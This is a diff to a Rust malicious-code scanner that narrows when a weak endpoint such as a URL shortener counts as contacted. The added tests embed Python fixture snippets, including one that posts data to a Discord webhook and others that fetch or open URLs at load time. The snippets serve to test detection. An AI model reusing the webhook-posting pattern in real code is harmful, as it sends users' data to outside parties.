@@ -122,7 +122,7 @@ pub const COMBINATIONS: &[Combination] = &[
     },
     Combination {
         id: "combo:endpoint-contacted",
-        description: "an exfiltration or staging endpoint and a network call (or a command line naming an address while loading) in the same file",
+        description: "an exfiltration or staging endpoint and a network call (or a command line naming an address while loading) in the same file; a weak endpoint (below 0.5) needs the call to run while loading or in the function naming it",
         weight: 0.3,
     },
     Combination {
@@ -282,10 +282,17 @@ fn combination_evidence<'f>(
         }
         "combo:endpoint-contacted" => {
             let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.3)?;
+            // A weak endpoint (a URL shortener, a file host) written in a table and a request
+            // made when called is how libraries fetch their data files; it takes a request
+            // while loading, in the function that names the endpoint, or an endpoint that weighs on
+            // its own, to be contact.
+            let weak = endpoint.severity < 0.5;
             // A command line that names an address while loading (`start https://…`,
             // `curl https://…`) contacts it as surely as a request does.
-            let call = strongest(findings, |f| f.rule == "WH130")
-                .or_else(|| strongest(findings, |f| command_naming_address(f) && early(f)))?;
+            let call = strongest(findings, |f| {
+                f.rule == "WH130" && (!weak || early(f) || same_function(f, endpoint))
+            })
+            .or_else(|| strongest(findings, |f| command_naming_address(f) && early(f)))?;
             Some((endpoint, call))
         }
         "combo:obfuscated-sink" => {
@@ -819,6 +826,25 @@ mod tests {
         let later = "import os\ndef open_site():\n    os.system('start https://example-app.onrender.com')\n";
         assert!(!has(
             &score("x-1/x/x.py", later),
+            "combo:endpoint-contacted"
+        ));
+    }
+
+    #[test]
+    fn a_weak_endpoint_in_a_table_fetched_when_called_is_no_contact() {
+        let table = "import urllib.request\nMODELS = {'spm': 'https://tinyurl.com/flores200spm'}\ndef fetch(name):\n    return urllib.request.urlopen(MODELS[name]).read()\n";
+        assert!(!has(
+            &score("x-1/x/x.py", table),
+            "combo:endpoint-contacted"
+        ));
+        let loading = "import urllib.request\nMODELS = {'spm': 'https://tinyurl.com/flores200spm'}\nurllib.request.urlopen(MODELS['spm']).read()\n";
+        assert!(has(
+            &score("x-1/x/x.py", loading),
+            "combo:endpoint-contacted"
+        ));
+        let webhook = "import requests\nH = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz'\ndef send(x):\n    requests.post(H, json={'c': x})\n";
+        assert!(has(
+            &score("x-1/x/x.py", webhook),
             "combo:endpoint-contacted"
         ));
     }
